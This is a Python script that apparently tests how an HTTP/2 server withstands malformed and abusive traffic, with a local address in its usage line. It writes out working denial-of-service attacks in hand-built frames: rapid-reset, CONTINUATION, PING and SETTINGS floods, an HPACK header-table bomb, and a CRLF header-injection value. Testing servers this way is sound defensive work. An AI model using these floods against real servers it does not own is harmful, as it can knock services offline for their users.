"""Attacks on an HTTP/2 connection, one by name, in frames made by hand.

Never the package h2, which would refuse to send most of this; hpack alone.
Prints one line: `goaway CODE`, `reset CODE` or `status STATUS` (each with how
often, as in `status 431 x100`), or `closed`.

    python h2_floods.py https://127.0.0.1:PORT TARGET NAME
"""

import socket
import ssl
import struct
import sys
import time
from collections import Counter
from urllib.parse import urlsplit

from hpack import Decoder, Encoder

DATA, HEADERS, PRIORITY, RESET, SETTINGS, _PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
LIMIT = 60
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NO_WINDOW = struct.pack(">HI", 4, 0)
# The exchange of a healthy stream is over long before this.
QUIET = 3


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Attack:
    """One connection, what is sent on it, and what comes back."""

    def __init__(self, url, target):
        parts = urlsplit(url)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection((parts.hostname, parts.port), timeout=LIMIT)
        self.socket = context.wrap_socket(plain, server_hostname="localhost")
        self.authority, self.target = parts.netloc, target
        self.seen = Counter()
        self.decoder = Decoder()
        self.buffer = b""

    def hello(self, settings=b""):
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """Sends, and looks at what came meanwhile: nobody may wait for the other."""
        view = memoryview(data)
        while view:
            part = view[: 1 << 16]
            try:
                self.socket.sendall(part)
            except (OSError, ssl.SSLError):
                return False
            view = view[len(part) :]
            if not self.read(0):
                return False
        return True

    def head(self, *fields, method="POST", path=None):
        fixed = [
            (":method", method),
            (":scheme", "https"),
            (":authority", self.authority),
            (":path", path or self.target),
        ]
        # A table of its own each time, so that streams do not hang on each other.
        return Encoder().encode([*fixed, *fields], huffman=False)

    def read(self, wait):
        """Takes what is there within `wait`; whether the connection goes on."""
        self.socket.settimeout(wait)
        try:
            data = self.socket.recv(1 << 16)
        except (TimeoutError, ssl.SSLWantReadError, BlockingIOError):
            return True
        except OSError:
            return False
        finally:
            self.socket.settimeout(LIMIT)
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, flags = self.buffer[3], self.buffer[4]
            payload = self.buffer[9 : 9 + length]
            self.buffer = self.buffer[9 + length :]
            if kind == GOAWAY:
                self.seen[f"goaway {int.from_bytes(payload[4:8], 'big')}"] += 1
            elif kind == RESET:
                self.seen[f"reset {int.from_bytes(payload, 'big')}"] += 1
            elif kind == HEADERS:
                fields = dict(self.decoder.decode(payload))
                if ":status" in fields:
                    self.seen[f"status {fields[':status']}"] += 1
        return bool(data) and not any(what.startswith("goaway") for what in self.seen)

    def outcome(self, enough=lambda seen: False, limit=LIMIT):
        """Reads on until there is enough, the connection ends, or the limit."""
        until = time.monotonic() + limit
        while time.monotonic() < until and not enough(self.seen):
            if not self.read(min(1, max(0.01, until - time.monotonic()))):
                break
        else:
            if not self.seen:
                return "nothing"
        return ", ".join(f"{what} x{n}" if n > 1 else what for what, n in sorted(self.seen.items())) or "closed"


def answers(count):
    return lambda seen: sum(n for what, n in seen.items() if what.startswith(("status", "reset"))) >= count


def flood(kind, stream, payload, flags=0):
    def run(attack):
        attack.hello()
        for _ in range(100):
            if not attack.send(frame(kind, flags, stream, payload) * 1000):
                break
        return attack.outcome()

    return run


def rapid_reset(attack):
    attack.hello()
    block = attack.head()
    reset = struct.pack(">I", 8)
    for first in range(1, 200_000, 2000):
        pairs = [
            frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + frame(RESET, 0, stream, reset)
            for stream in range(first, first + 2000, 2)
        ]
        if not attack.send(b"".join(pairs)):
            break
    return attack.outcome()


def made_to_reset(bad):
    """Makes the other side reset the streams: what was made of them goes on?"""

    def run(attack):
        attack.hello()
        for first in range(1, 40_000, 400):
            streams = [bad(attack, stream) for stream in range(first, first + 400, 2)]
            if not attack.send(b"".join(streams)):
                break
        return attack.outcome()

    return run


def no_increment(attack, stream):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, attack.head()) + frame(WINDOW, 0, stream, bytes(4))


def too_much_window(attack, stream):
    most = struct.pack(">I", 0x7FFFFFFF)
    head = frame(HEADERS, END_HEADERS | END_STREAM, stream, attack.head())
    return head + frame(WINDOW, 0, stream, most) * 2


def over_its_length(attack, stream):
    block = attack.head(("content-length", "1"))
    return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, b"too much")


def continuations(attack):
    attack.hello()
    attack.send(frame(HEADERS, 0, 1, attack.head()))
    for _ in range(100):
        if not attack.send(frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y") * 1000):
            break
    return attack.outcome()


def data(payload):
    def run(attack):
        attack.hello()
        attack.send(frame(HEADERS, END_HEADERS, 1, attack.head()))
        for _ in range(200):
            if not attack.send(frame(DATA, 0, 1, payload) * 1000):
                break
        return attack.outcome()

    return run


def bomb(attack):
    """100 streams of 400 fields, each a byte that names one of 100 bytes."""
    attack.hello(NO_WINDOW)
    # `:method: GET` and `:scheme: https` of the static table, then two literals
    # that do not enter the other one.
    fixed = b"\x82\x87" + b"".join(
        bytes([name, len(value)]) + value.encode()
        for name, value in [(1, attack.authority), (4, attack.target)]
    )
    field = b"\x40\x01a\x64" + b"b" * 100
    for stream in range(1, 200, 2):
        # The field enters the table once; all others are references to it.
        block = fixed + (field if stream == 1 else b"\xbe") + b"\xbe" * 399
        attack.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
    return attack.outcome(answers(100))


def crumbs(attack):
    """A cookie in 101 pieces is 101 fields."""
    attack.hello()
    block = attack.head(*[("cookie", "a=b")] * 101)
    attack.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    return attack.outcome(answers(1))


def one_head(*fields, **which):
    def run(attack):
        attack.hello()
        block = attack.head(*fields, **which)
        attack.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        return attack.outcome(answers(1))

    return run


def without_host(attack):
    attack.hello()
    block = Encoder().encode([(":method", "POST"), (":scheme", "https"), (":path", attack.target)])
    attack.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    return attack.outcome(answers(1))


def connect(attack):
    attack.hello()
    block = Encoder().encode([(":method", "CONNECT"), (":authority", attack.authority)])
    attack.send(frame(HEADERS, END_HEADERS, 1, block))
    return attack.outcome(answers(1))


def under_its_length(attack):
    attack.hello()
    attack.send(frame(HEADERS, END_HEADERS, 1, attack.head(("content-length", "9"))))
    attack.send(frame(DATA, END_STREAM, 1, b"short"))
    return attack.outcome(answers(1))


def pseudo_trailer(attack):
    attack.hello()
    attack.send(frame(HEADERS, END_HEADERS, 1, attack.head()) + frame(DATA, 0, 1, b"{}"))
    trailer = Encoder().encode([(":path", "/other")])
    attack.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, trailer))
    return attack.outcome(answers(1))


def bad_preface(attack):
    attack.send(b"GET / HTTP/1.1\r\nhost: a\r\n\r\n" * 3)
    return attack.outcome(limit=20)


def no_window(attack):
    """Takes nothing of a large answer, but answers pings as a living caller does."""
    attack.hello(NO_WINDOW)
    block = attack.head(path=f"{attack.target}?bytes=1000000", method="GET")
    attack.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    return attack.outcome(lambda seen: any(what.startswith("reset") for what in seen))


ATTACKS = {
    "rapid-reset": rapid_reset,
    "no-increment": made_to_reset(no_increment),
    "too-much-window": made_to_reset(too_much_window),
    "over-its-length": made_to_reset(over_its_length),
    "continuations": continuations,
    "empty-data": data(b""),
    "small-data": data(b"x"),
    "settings": flood(SETTINGS, 0, b""),
    "settings-acks": flood(SETTINGS, 0, b"", ACK),
    "pings": flood(PING, 0, b"12345678"),
    "pongs": flood(PING, 0, b"12345678", ACK),
    "priorities": flood(PRIORITY, 1, bytes([0, 0, 0, 0, 1])),
    "unknown-frames": flood(0x42, 0, b"x"),
    "bomb": bomb,
    "crumbs": crumbs,
    "connect": connect,
    "trace": one_head(method="TRACE"),
    "asterisk": one_head(method="OPTIONS", path="*"),
    "without-host": without_host,
    "other-host": one_head(("host", "other.example")),
    "over-length": lambda attack: (
        attack.hello(),
        attack.send(over_its_length(attack, 1)),
        attack.outcome(answers(1)),
    )[-1],
    "under-length": under_its_length,
    "pseudo-trailer": pseudo_trailer,
    "te-gzip": one_head(("te", "gzip")),
    "connection": one_head(("connection", "close")),
    "upper-case": one_head(("X-Upper", "a")),
    "crlf-value": one_head(("x-a", "b\r\nx-c: d")),
    "bad-preface": bad_preface,
    "no-window": no_window,
}


def main():
    url, target, name = sys.argv[1:4]
    print(ATTACKS[name](Attack(url, target)))


if __name__ == "__main__":
    main()
